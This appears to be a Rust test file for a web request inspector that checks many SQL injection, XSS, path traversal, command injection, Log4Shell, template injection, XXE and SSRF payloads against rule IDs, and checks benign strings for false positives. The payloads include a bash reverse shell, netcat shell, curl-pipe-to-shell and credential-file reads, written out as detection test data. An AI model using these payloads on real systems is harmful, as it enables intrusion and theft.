use std::{sync::Arc, time::Instant};

use hyper::Request;

use super::*;

fn route_with(config: InspectConfig) -> RouteInspect {
    RouteInspect::new(&Arc::new(Inspector::new()), &config).unwrap()
}

fn route() -> RouteInspect {
    route_with(InspectConfig {
        mode: InspectMode::Block,
        ..InspectConfig::default()
    })
}

/// The rule that `raw`, as a part of `kind`, trips.
fn hit(r: &RouteInspect, kind: Kind, raw: &str) -> Option<&'static str> {
    r.scan(raw.as_bytes(), kind, rules::IN_FIELD | rules::IN_TEXT)
        .map(|r| r.id)
}

fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
    let mut b = Request::get(uri);
    for (k, v) in headers {
        b = b.header(*k, *v);
    }
    b.body(()).unwrap().into_parts().0
}

/// Checks rows of `(kind, input, rule id)`; reports every miss at once.
fn expect(rows: &[(Kind, &str, &str)]) {
    let r = route();
    let misses: Vec<String> = rows
        .iter()
        .filter_map(|&(kind, input, id)| {
            let got = hit(&r, kind, input);
            (got != Some(id)).then(|| format!("{input:?} as {kind:?}: want {id}, got {got:?}"))
        })
        .collect();
    assert!(misses.is_empty(), "\n{}", misses.join("\n"));
}

/// Checks that none of `inputs` trips a rule, as any kind of part.
fn benign(inputs: &[&str]) {
    let r = route();
    let mut fps = Vec::new();
    for input in inputs {
        for kind in [Kind::Path, Kind::Form, Kind::Header, Kind::Json, Kind::Text] {
            if let Some(id) = hit(&r, kind, input) {
                fps.push(format!("{input:?} as {kind:?}: {id}"));
            }
        }
    }
    assert!(fps.is_empty(), "false positives:\n{}", fps.join("\n"));
}

use Kind::{Form, Header, Json, Path, Text};

#[test]
fn rules_compile_with_unique_ids_in_known_classes() {
    let i = Inspector::new();
    assert_eq!(
        i.rule_of.len(),
        RULES.iter().filter(|r| r.pattern.is_some()).count()
    );
    for (n, r) in RULES.iter().enumerate() {
        assert!(CLASSES.contains(&r.class), "{}", r.id);
        let (prefix, number) = r.id.split_once('-').unwrap();
        assert!(r.class.starts_with(prefix) && number.len() == 3, "{}", r.id);
        assert_eq!(rules::index(r.id), Some(n), "{} twice", r.id);
    }
}

#[test]
fn sql_injection() {
    expect(&[
        (Form, "' or 1=1--", "sqli-001"),
        (Form, "1' OR '1'='1", "sqli-001"),
        (Form, "' OR 'x'='x", "sqli-001"),
        (Form, "\" or \"\"=\"", "sqli-001"),
        (Form, "') or ('a'='a", "sqli-001"),
        (Form, "'or'1'='1", "sqli-001"),
        (Form, "1 OR 1=1", "sqli-001"),
        (Form, "1 and 1=2", "sqli-001"),
        (Form, "-1 or 2>1", "sqli-001"),
        (Form, "') or true--", "sqli-001"),
        (Form, "' || '1'='1", "sqli-001"),
        (Form, "%27%20OR%201%3D1--", "sqli-001"),
        (Form, "%2527%2520or%25201%253D1", "sqli-001"),
        (Form, "'+or+1=1--", "sqli-001"),
        (Form, "%u0027 or 1=1", "sqli-001"),
        (Form, "&#39; or 1=1", "sqli-001"),
        (Form, "%ef%bc%87 or 1=1", "sqli-001"),
        (Form, "'/**/or/**/1=1", "sqli-002"),
        (Form, "1/**/or/**/1=1", "sqli-001"),
        (Form, "'\tOR\n1=1", "sqli-001"),
        (Json, r#"{"user":"x\u0027 or 1=1--"}"#, "sqli-001"),
        (Json, r#"{"user":"x\" or \"a\"=\"a"}"#, "sqli-001"),
        (Form, "admin'--", "sqli-002"),
        (Form, "admin'#", "sqli-002"),
        (Form, "admin'/*", "sqli-002"),
        (Form, "admin%27%23", "sqli-002"),
        (Form, "1';--", "sqli-002"),
        (
            Form,
            "1 UNION SELECT username, password FROM users",
            "sqli-003",
        ),
        (Form, "1 union all select null,null", "sqli-003"),
        (Form, "1 UnIoN/**/SeLeCt 1", "sqli-003"),
        (Form, "1/*!50000union*/select 1", "sqli-003"),
        (Form, "1 union%23foo%0aselect 1", "sqli-003"),
        (Form, "1 union-- x%0aselect 1", "sqli-003"),
        (Form, "1%20union%28select%201%29", "sqli-003"),
        (Form, "1%0bunion%0bselect%0b1", "sqli-003"),
        (Form, "1%a0union%a0select%a01", "sqli-003"),
        (Form, "1; DROP TABLE users", "sqli-004"),
        (Form, "1;delete from users", "sqli-004"),
        (Form, "1; exec xp_cmdshell('dir')", "sqli-004"),
        (Form, "x'; select * from users", "sqli-004"),
        (Form, "1;shutdown", "sqli-004"),
        (Form, "1 AND SLEEP(5)", "sqli-005"),
        (Form, "1 or sleep(5)#", "sqli-005"),
        (Form, "1 and (select 1 from (select sleep(5))a)", "sqli-005"),
        (Form, "1;select pg_sleep(5)", "sqli-004"),
        (Form, "1 and pg_sleep(5)", "sqli-005"),
        (Form, "1 AND BENCHMARK(5000000,MD5(1))", "sqli-005"),
        (Form, "1 waitfor delay '0:0:5'", "sqli-005"),
        (
            Form,
            "1 and extractvalue(1,concat(0x7e,version()))",
            "sqli-006",
        ),
        (
            Form,
            "select table_name from information_schema.tables",
            "sqli-006",
        ),
        (Form, "1 and @@version>5", "sqli-006"),
        (Form, "1 into outfile '/tmp/x'", "sqli-006"),
        (Form, "char(115)+char(101)", "sqli-006"),
        (Form, "char(115)%2Bchar(101)", "sqli-006"),
        (Form, "x' order by 3--", "sqli-007"),
        (Form, "x' ORDER BY 3", "sqli-007"),
        (Form, "x' having 1=1", "sqli-007"),
        (Form, "x' and (select 1)=1", "sqli-007"),
        (Form, "x'||(select user)", "sqli-007"),
        (Form, "select * from users", "sqli-008"),
        (Form, "insert into users values (1)", "sqli-008"),
        (Form, "drop table users;", "sqli-008"),
    ]);
}

#[test]
fn cross_site_scripting() {
    expect(&[
        (Form, "<script>alert(1)</script>", "xss-001"),
        (Form, "<ScRiPt>alert(1)</sCrIpT>", "xss-001"),
        (Form, "%3Cscript%3E", "xss-001"),
        (Form, "%253Cscript%253E", "xss-001"),
        (Form, "%25253Cscript%25253E", "xss-001"),
        (Form, "&lt;script&gt;", "xss-001"),
        (Form, "&#60;script&#62;", "xss-001"),
        (Form, "&#x3C;script&#x3E;", "xss-001"),
        (Form, "&#0000060script", "xss-001"),
        (Form, "%26lt%3Bscript%26gt%3B", "xss-001"),
        (Form, "%u003cscript%u003e", "xss-001"),
        (Form, "%ef%bc%9cscript%ef%bc%9e", "xss-001"),
        (Json, r#"{"c":"\u003cscript\u003ealert(1)"}"#, "xss-001"),
        (Form, "<scr%00ipt>", "xss-001"),
        (Form, "\"><script src=//x.y/z></script>", "xss-001"),
        (Form, "<img src=x onerror=alert(1)>", "xss-002"),
        (Form, "<svg/onload=alert(1)>", "xss-002"),
        (Form, "<svg onload=alert(1)>", "xss-002"),
        (Form, "<body onload=alert(1)>", "xss-002"),
        (Form, "<details open ontoggle=alert(1)>", "xss-002"),
        (Form, "<img src=x ONERROR = alert(1)>", "xss-002"),
        (Form, "<img%20src=x%20onerror=alert(1)>", "xss-002"),
        (Form, "<img\tsrc=x\nonerror=alert(1)>", "xss-002"),
        (Form, "<x onpointerrawupdate=alert(1)>", "xss-002"),
        (Form, "\" onmouseover=\"alert(1)", "xss-002"),
        (Form, "' onfocus='alert(1)' autofocus='", "xss-002"),
        (Form, "x onerror=alert(1)", "xss-002"),
        (Form, "javascript:alert(1)", "xss-003"),
        (Form, "JaVaScRiPt:alert(1)", "xss-003"),
        (Form, "jav&#x09;ascript:alert(1)", "xss-003"),
        (Form, "jav%09ascript:alert(1)", "xss-003"),
        (Form, "javascript&colon;alert(1)", "xss-003"),
        (
            Form,
            "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
            "xss-003",
        ),
        (Form, "javascript://%0aalert(1)", "xss-003"),
        (Form, "vbscript:msgbox(1)", "xss-003"),
        (Form, "data:text/html;base64,PHNjcmlwdD4=", "xss-003"),
        (Form, "<iframe src=x>", "xss-004"),
        (Form, "<object data=x>", "xss-004"),
        (Form, "<embed src=x>", "xss-004"),
        (Form, "<meta http-equiv=refresh content=0;url=x>", "xss-004"),
        (Form, "'-alert(1)-'", "xss-005"),
        (Form, "alert`1`", "xss-005"),
        (Form, "document.cookie", "xss-005"),
        (Form, "String.fromCharCode(88,83,83)", "xss-005"),
        (Form, "top['al'+'ert'](1)", "xss-005"),
        (Form, "+ADw-script+AD4-x+ADw-/script+AD4-", "xss-006"),
        (Header, "+ADw-img src=x+AD4-", "xss-006"),
    ]);
}

#[test]
fn path_traversal() {
    expect(&[
        (Path, "/static/../../etc/hosts", "trav-001"),
        (Path, "/static/..%2f..%2fapp.conf", "trav-001"),
        (Path, "/static/%2e%2e/%2e%2e/app.conf", "trav-001"),
        (Path, "/static/%2E%2E%2F", "trav-001"),
        (Path, "/static/%252e%252e%252f", "trav-001"),
        (Path, "/static/%25252e%25252e%25252f", "trav-001"),
        (Path, "/static/..%c0%afapp", "trav-001"),
        (Path, "/static/%c0%ae%c0%ae/app", "trav-001"),
        (Path, "/static/%c0%ae%c0%ae%c0%afapp", "trav-001"),
        (Path, "/static/%e0%80%ae%e0%80%ae/app", "trav-001"),
        (Path, "/static/%f0%80%80%ae%f0%80%80%ae/app", "trav-001"),
        (Path, "/static/%25c0%25ae%25c0%25ae/app", "trav-001"),
        (Path, "/static/%u002e%u002e/app", "trav-001"),
        (Path, "/static/%u002e%u002e%u2215app", "trav-001"),
        (Path, "/static/%uff0e%uff0e%uff0fapp", "trav-001"),
        (Path, "/static/..%5c..%5capp", "trav-001"),
        (Path, "/static/..%255capp", "trav-001"),
        (Path, "/static/..\\app", "trav-001"),
        (Path, "/static/..;/app", "trav-001"),
        (Path, "/static/....//....//app", "trav-001"),
        (Path, "/static/..", "trav-001"),
        (Form, "../../app.conf", "trav-001"),
        (Form, "..", "trav-001"),
        (Form, "..%2F..%2Fapp.conf", "trav-001"),
        (Form, "%2e%2e%5c%2e%2e%5capp.ini", "trav-001"),
        (Json, r#"{"file":"../../app.conf"}"#, "trav-001"),
        (Json, r#"{"file":"\u002e\u002e/app"}"#, "trav-001"),
        (Form, "/etc/passwd", "trav-002"),
        (Form, "%2Fetc%2Fshadow", "trav-002"),
        (Form, "/proc/self/environ", "trav-002"),
        (Form, "C:\\Windows\\win.ini", "trav-002"),
        (Form, "c:/windows/system32/drivers/etc/hosts", "trav-002"),
        (Path, "/.git/config", "trav-002"),
        (Path, "/.env", "trav-002"),
        (Form, "/home/u/.ssh/id_rsa", "trav-002"),
        (Form, "file:///srv/data", "trav-003"),
        (
            Form,
            "php://filter/convert.base64-encode/resource=index",
            "trav-003",
        ),
        (Form, "phar://upload.jpg", "trav-003"),
    ]);
}

#[test]
fn command_injection() {
    expect(&[
        (Form, "127.0.0.1;id", "cmdi-001"),
        (Form, "127.0.0.1; cat /app/conf", "cmdi-001"),
        (Form, "x;cat /app/conf", "cmdi-001"),
        (Form, "127.0.0.1 | nc 10.0.0.1 4444", "cmdi-001"),
        (Form, "127.0.0.1|id", "cmdi-001"),
        (Form, "127.0.0.1 && whoami", "cmdi-001"),
        (Form, "x || ls -la", "cmdi-001"),
        (Form, "x%0als -la", "cmdi-001"),
        (Form, "x%0d%0aid", "cmdi-001"),
        (Form, "x%3B%20uname%20-a", "cmdi-001"),
        (Form, "x%253Bwget%2520http://e.x/s", "cmdi-001"),
        (Form, "x & ping -n 3 127.0.0.1 &", "cmdi-001"),
        (Form, "x; sleep 5", "cmdi-001"),
        (Form, "x;curl http://e.x/s", "cmdi-001"),
        (Form, "x & dir c:\\", "cmdi-001"),
        (Json, r#"{"host":"1.1.1.1; rm -rf /"}"#, "cmdi-001"),
        (Form, "$(whoami)", "cmdi-002"),
        (Form, "$(sleep 5)", "cmdi-002"),
        (Form, "x$(cat /app/conf)", "cmdi-002"),
        (Form, "`id`", "cmdi-003"),
        (Form, "`cat /app/conf`", "cmdi-003"),
        (Form, "x${IFS}y", "cmdi-004"),
        (Form, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cmdi-004"),
        (Form, "nc -e /bin/sh 10.0.0.1 4444", "cmdi-004"),
        (Form, "powershell -enc SQBFAFgA", "cmdi-004"),
        (Form, "cmd /c dir", "cmdi-004"),
        (Form, "curl http://e.x/s | sh", "cmdi-001"),
        (Form, "bash -i", "cmdi-004"),
        (Header, "() { :; }; echo vulnerable", "cmdi-004"),
        // Quotes and backslashes the shell removes before it runs the word.
        (Form, "x;w'h'o'a'm'i", "cmdi-001"),
        (Form, "x%3Bwh%22%22oami", "cmdi-001"),
        (Form, "x|c\\at /app/conf", "cmdi-001"),
        (Form, "x && una\\me -a", "cmdi-001"),
        (Json, r#"{"host":"1.1.1.1;w\"ho\"ami"}"#, "cmdi-001"),
        (Form, "$(who''ami)", "cmdi-002"),
        (Form, "`wh''oami`", "cmdi-003"),
        // Expansions that are empty to the shell.
        (Form, ";who$@ami", "cmdi-001"),
        (Form, ";w$()hoami", "cmdi-001"),
        (Form, ";wh``oami", "cmdi-001"),
        (Form, "|w$1hoami", "cmdi-001"),
        (Form, "x; id #", "cmdi-001"),
    ]);
}

#[test]
fn server_side_injection() {
    expect(&[
        // Log4Shell, plain and obfuscated, also percent-encoded and in a header.
        (Header, "${jndi:ldap://198.18.0.1:1389/a}", "rce-001"),
        (Header, "${${lower:j}ndi:ldap://x/a}", "rce-001"),
        (Header, "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "rce-001"),
        (Header, "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", "rce-001"),
        (Form, "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "rce-001"),
        (Json, r#"{"name":"${jndi:dns://x}"}"#, "rce-001"),
        (Form, "x=jndi:ldap://198.18.0.1/a", "rce-001"),
        // Java expression languages.
        (Form, "${T(java.lang.Runtime).getRuntime().exec('id')}", "rce-002"),
        (Form, "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "rce-002"),
        (Json, r#"{"q":"new java.lang.ProcessBuilder('id').start()"}"#, "rce-002"),
        (Form, "''.getClass().forName('java.lang.Runtime')", "rce-002"),
        // Templates.
        (Form, "{{7*7}}", "ssti-001"),
        (Form, "${7*7}", "ssti-001"),
        (Form, "#{7*7}", "ssti-001"),
        (Form, "<%= 7 * 7 %>", "ssti-001"),
        (Form, "%7B%7B7*7%7D%7D", "ssti-001"),
        (Json, r#"{"t":"{{''.__class__.__mro__[1].__subclasses__()}}"}"#, "ssti-001"),
        (Form, "{{config.items()}}", "ssti-001"),
        (Form, "{{request|attr('application')}}", "ssti-001"),
        (Form, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti-001"),
        (Form, "{{constructor.constructor('x')()}}", "ssti-001"),
        // XML external entities.
        (
            Text,
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://198.18.0.1/x\">]><r>&x;</r>",
            "xxe-001",
        ),
        (Text, "<!DOCTYPE r SYSTEM \"http://198.18.0.1/x.dtd\"><r/>", "xxe-001"),
        (Text, "<!ENTITY % p PUBLIC \"x\" \"http://198.18.0.1/p.dtd\">", "xxe-001"),
        (Text, "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></r>", "xxe-001"),
        // NoSQL operators, as query names, JSON keys and in text.
        (Form, "username[$ne]", "nosqli-001"),
        (Form, "password[%24gt]", "nosqli-001"),
        (Json, r#"{"username":{"$ne":null},"password":{"$ne":null}}"#, "nosqli-001"),
        (Json, r#"{"$where":"this.a == 1"}"#, "nosqli-001"),
        (Text, r#"{"user": {"$regex": "^a"}}"#, "nosqli-001"),
        (Form, "'; return true; var x='", "nosqli-001"),
        (Form, "db.users.find()", "nosqli-001"),
        // Cloud metadata and odd schemes.
        (Form, "http://169.254.169.254/latest/meta-data/iam/", "ssrf-001"),
        (Form, "http://2852039166/", "ssrf-001"),
        (Form, "http://0xa9fea9fe/", "ssrf-001"),
        (Form, "http://metadata.google.internal/computeMetadata/v1/", "ssrf-001"),
        (Form, "http://[fd00:ec2::254]/", "ssrf-001"),
        (Form, "gopher://127.0.0.1:6379/_FLUSHALL", "ssrf-001"),
        // Response splitting, in fields.
        (Form, "x%0d%0aSet-Cookie:%20admin=1", "crlf-001"),
        (Path, "/r%0d%0aLocation:%20http://198.18.0.1/", "crlf-001"),
        (Header, "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "crlf-001"),
        (Form, "x%0aHTTP/1.1%20200%20OK", "crlf-001"),
        // Server-side includes and LDAP filters.
        (Form, "<!--#exec cmd=\"id\" -->", "ssi-001"),
        (Form, "<!--#include virtual=\"/x.shtml\"-->", "ssi-001"),
        (Form, "*)(uid=*))(|(uid=*", "ldapi-001"),
        (Form, "admin)(&)", "ldapi-001"),
        (Form, "x)(|(objectClass=*)", "ldapi-001"),
    ]);
}

#[test]
fn server_side_look_alikes_pass() {
    benign(&[
        "Price: ${price}",
        "Hello ${name}, your order ${order.id} shipped",
        "`${a} and ${b}`",
        "{{ user.name }}",
        "{{#each items}}{{this}}{{/each}}",
        "{% if user %}Hi{% endif %}",
        "#{name}",
        "7*7=49",
        "{{7}}",
        "$10 or $20",
        "$in the money",
        "cost: $ne",
        "<!DOCTYPE html>",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "<!-- a comment -->",
        "<!-- #1 item -->",
        "java.lang.String cannot be cast to java.lang.Integer",
        "at java.lang.Thread.run(Thread.java:750)",
        "f(x)(y)",
        "(a)(b)",
        "see (1)(2)",
        "192.168.1.254",
        "169.254.1.1",
        "https://docs.example.com/latest/guide",
        "Location: Room 4",
        "sftp://backup.example.com/data",
        "ldap://ldap.example.com/dc=example,dc=com",
        "The quick brown fox\nContent is king",
        "mongodb://db.example.com:27017",
        "use the $regex operator with care",
        "T(n) = O(n log n)",
        "Runtime: 2h 15m",
        "The function f(x) = x*2 returns {a: 1}",
        "Use {{name}} to insert the name",
        "Total: ${total}",
        "I'll be there at 5 or 6; maybe later",
        "1 or 2 items",
        "#1 and #2",
        "Email: a@b.com; Phone: 555",
        "C:\\Program Files\\App",
        "Ruby on Rails",
        "rm -rf is dangerous",
        "Call 1-800-FLOWERS",
        "x = a || b && c",
        "if (a) { b(); }",
        "cat & dog; id card",
        "Question #5; id #7",
        "Meeting room (A)(B)",
        "The {{count}} items cost ${price}",
        "angular: {{ vm.total | currency }}",
        "a=1&b=2",
        "Let x = ${a + b}",
        "JIRA-123: fix ${HOME} expansion",
        "see RFC 7230; section 3.2",
        "Set-Cookie headers are documented here",
        "ping: 23 ms",
        "$(document).ready(function() {})",
        "jQuery $('#id').hide()",
        "SELECT is a SQL keyword",
        "{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}",
        "{\"$ref\": \"#/definitions/x\"}",
        "{\"$type\": \"App.Model, App\"}",
        "price in $USD",
        "OData: $filter=Name eq 'x'&$top=10",
        "mailto:a@example.com?subject=Hi",
        "1 and true love",
        "onerror handling guide",
        "on error resume next",
    ]);
    // A text body may carry lines that look like headers: response splitting is a field's.
    let r = route();
    let text = "Subject: hi\nContent-Type: text/plain\nLocation: http://example.com/\n\nbody";
    assert_eq!(
        r.scan(text.as_bytes(), Text, rules::IN_TEXT).map(|r| r.id),
        None
    );
    assert_eq!(
        r.scan(text.as_bytes(), Form, rules::IN_FIELD).map(|r| r.id),
        Some("crlf-001")
    );
}

#[test]
fn null_bytes() {
    expect(&[
        (Form, "file.txt%00", "null-001"),
        (Form, "file.txt%2500.png", "null-001"),
        (Form, "file%c0%80.png", "null-001"),
        (Form, "file%u0000.png", "null-001"),
        (Json, r#"{"f":"a\u0000b"}"#, "null-001"),
        (Text, "a\0b", "null-001"),
        (Path, "/files/x%00.png", "null-001"),
        // A rule that matches wins over the NUL that hid it.
        (Form, "/etc/passwd%00.png", "trav-002"),
        (Form, "<scr%00ipt>", "xss-001"),
    ]);
}

#[test]
fn benign_look_alikes_pass() {
    benign(&[
        "select a plan",
        "Please select a plan from the list",
        "O'Brien",
        "Dunkin' Donuts and O'Reilly",
        "it's the kids' and parents' day",
        "Tom & Jerry's \"cat\" show; it's on at 5",
        "rock 'n' roll | \"idle\" hands; who's there",
        "C:\\Users\\me; D:\\data & E:\\backup",
        "union station",
        "the union selected a new leader",
        "1 + 1 = 2",
        "2+2=4",
        "drop-down",
        "drop down menu",
        "script.js",
        "/static/js/script.js",
        "/api/v1/users/42/orders",
        "a/b/c",
        "report.final.v2.pdf",
        "archive.tar.gz",
        "compare/v1.2..v1.3",
        "1..10",
        "Wait... what?",
        "AT&T",
        "Q&A",
        "Tom & Jerry",
        "salt & pepper",
        "bob+filter@example.com",
        "bob%2Bfilter%40example.com",
        "I <3 cats",
        "a < b and c > d",
        "x<y",
        "this or that",
        "you and me",
        "black or white and grey",
        "Rock 'n' roll",
        "He said \"yes\" and left",
        "it costs 5 or 6 dollars",
        "SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Lg==",
        "aGVsbG8/d29ybGQ+Zm9vL2Jhcg==",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        "2024-05-01T12:30:00Z",
        "2024-05-01T12:30:00+02:00",
        "123e4567-e89b-12d3-a456-426614174000",
        "100% sure",
        "50%",
        "C# and F#",
        "#hashtag",
        "color: #fff",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15",
        "curl/8.5.0",
        "https://www.example.com/search?q=shoes&page=2",
        "en-US,en;q=0.9,de;q=0.8",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "203.0.113.9, 10.0.0.1",
        "the cat sat on the mat",
        "cat food; dog food",
        "I sleep 8 hours",
        "Name | Email | Phone",
        "ping me when you're free",
        "ls",
        "id",
        "What's new? Sign-in & sign-up -- fast",
        "x = y * 2 / z",
        "Call me at +1 (555) 010-9999",
        "price > 100 and rating >= 4",
        "The JavaScript: The Good Parts book",
        "online",
        "onboarding=done",
        "alert level: high",
        "please confirm (yes/no)",
        "email me at john.doe@example.org",
        "SELECT your seat",
        "update your profile settings",
        "delete from favourites",
        "Order by date",
        "Insert coin",
        "data: 42",
        "user_tables and all_tables",
        "schema.org/Product",
        "file.name.with.many.dots.txt",
        "~/.bashrc",
        "src/**/*.js",
        "/api/*/users/*",
        "query { user { id, name } }",
        "https://example.com/a/b?c=d/e",
        "café crème brûlée",
        "日本語のテキスト（テスト）です！",
        "Ünïcödé ✓ 🎉",
    ]);
}

#[test]
fn benign_json_and_form_bodies_pass() {
    let r = route();
    let json = r##"{
  "name": "Miles O'Brien",
  "quote": "It's \"fine\", isn't it?",
  "tags": ["a/b", "c.d", "--verbose"],
  "color": "#ff0000",
  "note": "select a plan, or don't; union station at 5",
  "when": "2024-05-01T12:30:00Z",
  "id": "123e4567-e89b-12d3-a456-426614174000",
  "avatar": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "escaped": "line\nbreak \u00e9 \\ backslash",
  "math": "1 + 1 = 2",
  "online": true,
  "onload": 1,
  "placeholder": "...",
  "list": [1, 2, 3]
}"##;
    let p = parts("/", &[("content-type", "application/json")]);
    assert!(r.wants_body(&p));
    assert_eq!(r.body(&p, json.as_bytes()).map(|f| f.rule), None);
    let form = "name=Miles+O%27Brien&email=miles%2Btest%40example.com&plan=select+a+plan&\
                company=AT%26T&note=1+%2B+1+%3D+2&redirect=%2Fhome%2Fdash&q=union+station";
    let p = parts(
        "/",
        &[("content-type", "application/x-www-form-urlencoded")],
    );
    assert_eq!(r.body(&p, form.as_bytes()).map(|f| f.rule), None);
    let xml = r#"<?xml version="1.0"?><order><object id="1">box</object><base>10</base></order>"#;
    let p = parts("/", &[("content-type", "application/xml; charset=utf-8")]);
    assert_eq!(r.body(&p, xml.as_bytes()).map(|f| f.rule), None);
}

#[test]
fn head_inspects_path_query_and_headers_but_never_credentials() {
    let r = route();
    let clean = parts(
        "/api/v1/items/7?page=2&sort=-created&q=union+station",
        &[
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ("referer", "https://app.example.com/items?tab=all"),
            (
                "cookie",
                "session=abc.def; theme=dark; cart=%7B%22n%22%3A2%7D",
            ),
            ("accept", "*/*"),
        ],
    );
    assert!(r.head(&clean).is_none());
    let at = |uri: &str, h: &[(&str, &str)]| r.head(&parts(uri, h)).map(|f| (f.rule, f.part));
    assert_eq!(at("/a/..%2f..%2fx", &[]), Some(("trav-001", "path".into())));
    assert_eq!(
        at("/a?x=1&q=%27+or+1%3D1--", &[]),
        Some(("sqli-001", "query".into()))
    );
    // Names too.
    assert_eq!(
        at("/a?%3Cscript%3E=1", &[]),
        Some(("xss-001", "query".into()))
    );
    assert_eq!(
        at("/a", &[("user-agent", "() { :; }; /bin/bash -c id")]),
        Some(("cmdi-001", "header:user-agent".into()))
    );
    assert_eq!(
        at("/a", &[("x-custom", "<svg/onload=alert(1)>")]),
        Some(("xss-002", "header:x-custom".into()))
    );
    assert_eq!(
        at("/a", &[("cookie", "a=1; q=' or 1=1--")]),
        Some(("sqli-001", "header:cookie".into()))
    );
    assert_eq!(
        at("/a", &[("referer", "https://x/?q=%3Cscript%3E")]),
        Some(("xss-001", "header:referer".into()))
    );
    // Credentials and opaque tokens are never inspected.
    for h in [
        "authorization",
        "x-api-key",
        "x-csrf-token",
        "proxy-authorization",
    ] {
        assert_eq!(at("/a", &[(h, "' or 1=1-- <script>")]), None, "{h}");
    }
    // Nor what a route asks to skip.
    let skipping = route_with(InspectConfig {
        mode: InspectMode::Block,
        skip_headers: vec!["x-raw".into()],
        ..InspectConfig::default()
    });
    assert!(skipping
        .head(&parts("/a", &[("x-raw", "<script>")]))
        .is_none());
}

#[test]
fn bodies_by_content_type_and_size() {
    let r = route();
    let body = |ct: Option<&str>, b: &str| {
        let p = match ct {
            Some(ct) => parts("/", &[("content-type", ct)]),
            None => parts("/", &[]),
        };
        (r.wants_body(&p), r.body(&p, b.as_bytes()).map(|f| f.rule))
    };
    assert_eq!(
        body(
            Some("application/x-www-form-urlencoded"),
            "a=1&b=%3Cscript%3E"
        ),
        (true, Some("xss-001"))
    );
    assert_eq!(
        body(
            Some("application/json; charset=utf-8"),
            r#"{"a":"\u003cscript"}"#
        ),
        (true, Some("xss-001"))
    );
    assert_eq!(
        body(Some("application/vnd.api+json"), r#"{"a":"../../x"}"#),
        (true, Some("trav-001"))
    );
    assert_eq!(
        body(Some("text/plain"), "hello; cat /etc/passwd"),
        (true, Some("trav-002"))
    );
    assert_eq!(
        body(Some("application/soap+xml"), "<a><![CDATA[<script>]]></a>"),
        (true, Some("xss-001"))
    );
    assert_eq!(body(None, "<script>"), (true, Some("xss-001")));
    assert_eq!(
        body(Some("application/octet-stream"), "<script>"),
        (false, None)
    );
    // A multipart body that does not split (no delimiter) is matched whole.
    assert_eq!(
        body(Some("multipart/form-data; boundary=x"), "<script>"),
        (true, Some("xss-001"))
    );
    assert_eq!(body(Some("image/png"), "\0\0<script>"), (false, None));

    // Over the cap: a finding by default, or only the prefix inspected.
    let small = |over: OverLimit| {
        route_with(InspectConfig {
            mode: InspectMode::Block,
            max_body_bytes: 16,
            body_over_limit: over,
            ..InspectConfig::default()
        })
    };
    let p = parts("/", &[("content-type", "text/plain")]);
    let long = format!("{}<script>", "a".repeat(20));
    assert_eq!(
        small(OverLimit::Finding)
            .body(&p, long.as_bytes())
            .map(|f| f.rule),
        Some("limit-001")
    );
    assert_eq!(
        small(OverLimit::InspectPrefix)
            .body(&p, long.as_bytes())
            .map(|f| f.rule),
        None
    );
    assert_eq!(
        small(OverLimit::InspectPrefix)
            .body(&p, b"<script>aaaaaaaaaaaaaaaaaaaaa")
            .map(|f| f.rule),
        Some("xss-001")
    );
}

#[test]
fn json_bodies_string_by_string() {
    let r = route();
    let p = parts("/", &[("content-type", "application/json")]);
    let check = |body: &str| r.body(&p, body.as_bytes()).map(|f| f.rule);
    for (body, rule) in [
        (r#"{"q":"1' OR '1'='1"}"#, "sqli-001"),
        (r#"{"<script>":1}"#, "xss-001"),
        (
            r#"[1, true, null, {"a": ["x", "\u003cscript"]}]"#,
            "xss-001",
        ),
        (r#"{"q":"x\" or 1=1 -- "}"#, "sqli-001"),
        (r#"{"f":"..\/..\/etc\/passwd"}"#, "trav-001"),
        (r#"{"n":"a\u0000b"}"#, "null-001"),
        // A key given twice: both values are matched, whichever the upstream keeps.
        (r#"{"q":"<script>","q":"fine"}"#, "xss-001"),
        // Not JSON between the strings, or a string left open: matched whole.
        (r#"{"a": 1 <script>}"#, "xss-001"),
        (r#"{"a": "x", b: ';whoami'}"#, "cmdi-001"),
        (r#"{"a": "x <script>"#, "xss-001"),
        ("\u{feff}{\"a\": \"x\"} <script>", "xss-001"),
    ] {
        assert_eq!(check(body), Some(rule), "{body}");
    }
    for body in [
        r#"{"plan":"select","table":"from users","n":-1.5e+3,"ok":false,"x":null}"#,
        r#"{"name":"Miles O'Brien","bio":"it's fine; or not","id":"id"}"#,
        "[]",
        "",
        r#""just a string""#,
    ] {
        assert_eq!(check(body), None, "{body}");
    }
}

/// A multipart/form-data body with boundary `B` of `(part headers, content)`.
fn form_data(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (headers, content) in parts {
        body.extend_from_slice(b"--B\r\n");
